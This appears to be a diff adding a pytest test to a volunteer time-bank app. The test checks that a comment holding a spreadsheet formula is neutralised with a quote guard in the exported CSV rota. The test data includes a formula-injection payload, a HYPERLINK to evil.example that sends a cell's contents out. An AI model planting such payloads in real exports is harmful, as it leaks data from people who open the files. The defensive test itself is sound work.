@@ -118,6 +118,30 @@ def test_marks_from_phones_are_theirs_only_and_approved_once(linked):
 
 
 @pytest.mark.slow
+def test_a_formula_in_a_phone_comment_is_guarded_in_the_kept_rota(linked):
+    """Issue 30, attack 7: a volunteer's comment ``=HYPERLINK(...)`` is kept in the marked
+    rota beside the ledger (``timebank/phone-*.csv``) with the guard in front, like every
+    CSV the project writes."""
+    client, _, links, data = linked
+    volunteer = sorted(links)[-1]
+    visit = visits(client, links[volunteer])[0]
+    comment = '=HYPERLINK("http://evil.example/?x="&A1,"ok")'
+    assert client.post(f"{links[volunteer]}/marks", json={
+        "date": visit["date"], "activity": "visit", "elder_id": visit["elder_id"],
+        "status": "done", "minutes": 30, "comment": comment}).status_code == 201
+    pending = [p["id"] for p in client.get("/api/programmes/minle/timebank/pending").json()
+               if p["volunteer_id"] == volunteer]
+    before = set((data / "programmes" / "minle").rglob("phone-*.csv"))
+    assert client.post("/api/programmes/minle/timebank/approve",
+                       json={"ids": pending}).status_code == 200
+    (kept,) = set((data / "programmes" / "minle").rglob("phone-*.csv")) - before
+    text = kept.read_text(encoding="utf-8")
+    assert f"'{comment}".replace('"', '""') in text
+    assert not any(cell.startswith("=") for line in text.splitlines()
+                   for cell in line.split(","))
+
+
+@pytest.mark.slow
 def test_the_week_form_records_the_rest_of_a_week_approved_in_part(linked):
     """After phone marks of the first week are approved, the coordinator's week form
     records every other activity of that week, and not those again."""
